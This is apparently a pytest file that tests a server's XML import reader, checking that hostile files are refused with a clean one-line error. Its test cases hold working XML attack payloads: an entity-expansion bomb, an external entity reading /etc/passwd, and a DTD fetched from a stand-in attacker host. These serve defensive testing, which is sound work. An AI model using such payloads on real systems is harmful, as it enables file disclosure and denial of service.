"""XML that came from elsewhere: what is refused before a tree is made of it."""

from __future__ import annotations

import pytest

from rmsserver.errors import OperatorError
from rmsserver.operations.admin.imported_xml import MAX_FILE_BYTES, child_text, read_xml

BOMB = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(b"<!DOCTYPE a><a/>", id="doctype"),
        pytest.param(f'<!DOCTYPE a [<!ENTITY e0 "x">{BOMB}]><a>&e8;</a>'.encode(), id="entity bomb"),
        pytest.param(b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', id="external entity"),
        pytest.param(b'<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>', id="external subset"),
        pytest.param(b"<a>" * 30 + b"</a>" * 30, id="deep"),
        pytest.param(b"<a>" + b"<b/>" * 20_001 + b"</a>", id="many elements"),
        pytest.param(b"<a " + b" ".join(b'a%d=""' % n for n in range(40)) + b"/>", id="many attributes"),
        pytest.param(b"<a>&nothing;</a>", id="undeclared entity"),
        pytest.param(b"<a/><a/>", id="two roots"),
        pytest.param(b"<?xml version='1.0' encoding='utf-7'?><a/>", id="odd encoding"),
        pytest.param(b"", id="empty"),
        pytest.param(b"\x00\x01", id="not XML"),
        pytest.param(b" " * (MAX_FILE_BYTES + 1), id="large"),
    ],
)
def test_X1_hostile_files(hostile: bytes) -> None:
    """X1 to X6: one line for the operator, with nothing of the file in it."""
    with pytest.raises(OperatorError) as caught:
        read_xml(hostile, "the file")
    assert "\n" not in str(caught.value)
    assert "attacker" not in str(caught.value)


def test_a_file_of_either_encoding() -> None:
    """UTF-8 and UTF-16, comments and declarations."""
    text = '<?xml version="1.0"?><!-- c --><a xmlns="urn:x"><b>ä</b></a>'
    for data in (text.encode(), text.encode("utf-16")):
        assert child_text(read_xml(data, "the file"), "b", "the file") == "ä"


def test_a_value_that_stands_twice() -> None:
    """Nobody has to guess which one is meant."""
    with pytest.raises(OperatorError):
        child_text(read_xml(b"<a><b>1</b><b>2</b></a>", "the file"), "b", "the file")
